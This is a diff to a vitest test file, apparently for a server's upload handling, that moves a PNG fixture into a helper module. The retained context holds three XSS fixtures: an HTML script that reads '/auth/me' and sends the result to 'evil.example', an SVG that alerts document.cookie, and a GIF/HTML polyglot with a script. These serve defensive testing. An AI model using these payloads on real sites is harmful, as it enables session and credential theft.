@@ -5,11 +5,8 @@ import { afterEach, describe, expect, it } from "vitest";
 import { dialects } from "./helpers/databases.js";
 import { connectSocket, EventLog, request, type ClientSocket } from "./helpers/socket-client.js";
 import { startTestServer, testApp, type StartOptions, type TestClient, type TestServer } from "./helpers/test-server.js";
+import { PNG } from "./helpers/sample-files.js";
 
-const PNG = Buffer.from(
-  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
-  "base64",
-);
 const HTML_WITH_SCRIPT = `<!doctype html><html><body><script>fetch('/auth/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></body></html>`;
 const SVG_WITH_SCRIPT = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`;
 const GIF_POLYGLOT = Buffer.concat([Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "latin1"), Buffer.from(`<html><script>alert(1)</script></html>`)]);
